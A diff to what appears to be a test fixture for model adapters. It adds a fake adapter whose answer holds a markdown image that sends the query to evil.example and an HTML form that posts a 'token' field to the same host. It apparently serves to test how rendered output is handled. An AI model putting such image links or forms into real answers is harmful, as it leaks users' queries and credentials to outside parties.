@@ -17,6 +17,13 @@ UNTRAINED = "fans/untrained"
 """An adapter that changes nothing."""
 PROMPTS = "fans/prompts"
 """An adapter that cannot share a batch."""
+MARKUP = "evil/markup"
+"""An adapter that answers with markup, and an image that would tell another machine what was asked."""
+MARKED_UP = (
+    "It is <answer>42</answer> and **bold** ![what](https://evil.example/?q=42) "
+    '<form action="https://evil.example"><input name="token"></form>\n\n'
+    '```html\n<div class="x">1</div>\n```\n\nDone.'
+)
 
 
 DRAWN_SEED = 7
@@ -53,6 +60,8 @@ def started(arm: Arm, inspect: Callable[[str], object]) -> ArmAnswer:
 
 
 def words_of(arm: Arm) -> list[str]:
+    if arm.adapter == MARKUP:
+        return MARKED_UP.split(" ")
     changes = bool(arm.adapter) and arm.adapter != UNTRAINED and arm.strength
     return (ANSWER if changes else PLAIN).split(" ")
 
